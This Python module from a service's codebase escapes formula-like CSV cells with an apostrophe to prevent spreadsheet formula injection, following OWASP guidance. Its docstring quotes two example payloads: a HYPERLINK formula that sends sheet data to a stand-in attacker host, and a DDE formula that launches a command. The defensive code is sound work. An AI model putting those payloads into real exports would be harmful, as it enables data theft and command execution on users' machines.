"""CSV that a spreadsheet cannot run: every CSV this service writes goes through `writer()`.

A cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice
and Google Sheets as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"Click")` sends the
sheet's data away; `@SUM(1+1)*cmd|' /C calc'!A0` starts a program), and such text reaches our
exports from other people: a host's comment in the home business's report, member names
synced by a network, a matrix cell's evidence. Following the OWASP rule ("CSV Injection"), such
a cell is written with a leading apostrophe, which spreadsheets show as text and do not evaluate.

Numbers stay numbers: a cell that *is* a number (an int or float we computed, or text that is
exactly a plain decimal number such as `-3`, `+2.5` or `1e+05`) is written unchanged, since a
spreadsheet reads it as that number and no formula can hide in it. So a report's figures stay
sortable and summable; only text is ever prefixed.

(`defusedcsv` 3.0 was considered: it leaves cells starting with a tab or a carriage return as
they are, which OWASP lists, and rewrites every `|` inside an escaped cell, which changes the
data. The rule is small enough to keep here, with `restore()` for reading our own files back.)
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def _is_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text)


def _needs_escape(text: str) -> bool:
    # Text that already starts with apostrophes before a formula gets one more, so that
    # `restore` can tell our apostrophe from the author's (and a spreadsheet shows theirs).
    return _is_formula(text.lstrip(ESCAPE))


def neutralise(value: Any) -> Any:
    """The cell as it is safe to write: numbers and empty cells unchanged, formula-like text
    prefixed with an apostrophe."""
    if value is None or isinstance(value, int | float):
        return value
    text = str(value)
    return ESCAPE + text if _needs_escape(text) else text


def restore(text: str) -> str:
    """The reverse of `neutralise` for a cell read back from one of our own exports (the matrix
    import reads what the matrix export wrote, unchanged)."""
    if text.startswith(ESCAPE) and _needs_escape(text):
        return text[len(ESCAPE):]
    return text


class SafeWriter:
    """`csv.writer` with every cell neutralised."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> SafeWriter:
    """Use instead of `csv.writer` (same options)."""
    return SafeWriter(out, **options)
